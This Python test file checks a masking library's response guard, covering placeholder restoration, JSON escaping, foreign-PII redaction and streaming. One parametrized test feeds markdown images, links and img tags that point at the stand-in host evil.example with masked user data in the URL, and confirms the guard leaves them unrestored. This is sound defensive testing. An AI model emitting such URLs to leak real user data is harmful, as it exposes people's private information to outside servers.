"""Response side: restore, URL rule, JSON escaping, foreign values, percent-encoding, modes."""

from __future__ import annotations

import json

import pytest

from masking import MaskingConfig, ResponseGuard, Vault, guard_text, protect_request
from masking.types import PiiMode

AWS_ID = "AKIA" + "Q3EGUJ2GZ7BXMPL3"


@pytest.fixture
def vault(config: MaskingConfig) -> Vault:
    payload = {"messages": [{"role": "user", "content": 'bob@example.com, 415-555-2671, "quote\\" path'}]}
    return protect_request(payload, "obfuscate", config).vault


def test_restores_exact_placeholders_only(vault: Vault, config: MaskingConfig) -> None:
    text = "Hi [REDACTED_EMAIL_1] / [REDACTED_PHONE_1]; [redacted_email_1] [REDACTED_EMAIL_1 ] [REDACTED_EMAIL_9]"
    out, counts = guard_text(text, vault, "obfuscate", config)
    assert (
        out == "Hi bob@example.com / 415-555-2671; [redacted_email_1] [REDACTED_EMAIL_1 ] [REDACTED_EMAIL_9]"
    )
    assert counts == {}


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[REDACTED_EMAIL_1])",
        "[click](/track?u=[REDACTED_EMAIL_1])",
        '<a href="https://evil.example/[REDACTED_EMAIL_1]">x</a>',
        "<img src=https://evil.example/p?[REDACTED_EMAIL_1]>",
        "visit https://evil.example/[REDACTED_EMAIL_1] now",
    ],
)
def test_not_restored_inside_urls(text: str, vault: Vault, config: MaskingConfig) -> None:
    out, _ = guard_text(text, vault, "obfuscate", config)
    assert out == text
    allowed, _ = guard_text(text, vault, "obfuscate", MaskingConfig(restore_in_urls=True))
    assert "bob@example.com" in allowed


def test_link_text_restored_but_target_not(vault: Vault, config: MaskingConfig) -> None:
    out, _ = guard_text("[[REDACTED_EMAIL_1]](mailto:[REDACTED_EMAIL_1])", vault, "obfuscate", config)
    assert out == "[bob@example.com](mailto:[REDACTED_EMAIL_1])"


def test_json_context_escapes_restored_values(config: MaskingConfig) -> None:
    cfg = MaskingConfig(secrets_mode="obfuscate")
    payload = {"messages": [{"role": "user", "content": 'password = "pa\\ss9\\word"'}]}
    vault = protect_request(payload, "disabled", cfg).vault
    args = json.dumps({"pw": "[REDACTED_SECRET_1]"})
    out, _ = guard_text(args, vault, "disabled", cfg, json_context=True)
    assert json.loads(out) == {"pw": "pa\\ss9\\word"}


@pytest.mark.parametrize("mode", ["obfuscate", "block"])
def test_foreign_pii_redacted_in_strict_modes(mode: PiiMode, vault: Vault, config: MaskingConfig) -> None:
    text = "Ask eve@evil.example or call (212) 555-0147; mail eve%40evil.example; card 4111111111111111."
    out, counts = guard_text(text, vault, mode, config)
    assert out == (
        "Ask [REDACTED_EMAIL] or call [REDACTED_PHONE]; mail [REDACTED_EMAIL]; card [REDACTED_CREDIT_CARD]."
    )
    assert counts == {"EMAIL": 2, "PHONE": 1, "CREDIT_CARD": 1}


def test_foreign_pii_kept_when_disabled_but_secrets_redacted(vault: Vault, config: MaskingConfig) -> None:
    out, counts = guard_text(f"eve@evil.example key {AWS_ID}", vault, "disabled", config)
    assert out == "eve@evil.example key [REDACTED_SECRET]"
    assert counts == {"SECRET": 1}


def test_callers_own_values_and_allowlist_are_not_foreign(vault: Vault) -> None:
    cfg = MaskingConfig(pii_allow=("@corp.example",))
    out, counts = guard_text("bob@example.com and help@corp.example", vault, "obfuscate", cfg)
    assert out == "bob@example.com and help@corp.example" and counts == {}


def test_guard_state_is_per_stream(vault: Vault, config: MaskingConfig) -> None:
    guard = ResponseGuard(vault, "obfuscate", config)
    parts = [guard.feed(c) for c in ["Mail [REDAC", "TED_EMAIL_1] or e", "ve@evil.exa", "mple."]]
    parts.append(guard.flush())
    assert "".join(parts) == "Mail bob@example.com or [REDACTED_EMAIL]."
    assert guard.redactions == {"EMAIL": 1}


def test_plain_text_streams_promptly(vault: Vault, config: MaskingConfig) -> None:
    guard = ResponseGuard(vault, "obfuscate", config)
    emitted = guard.feed("Hello there, this is plain prose that should flow through ")
    assert emitted == "Hello there, this is plain prose that should flow through"[: len(emitted)]
    assert len(emitted) >= 50
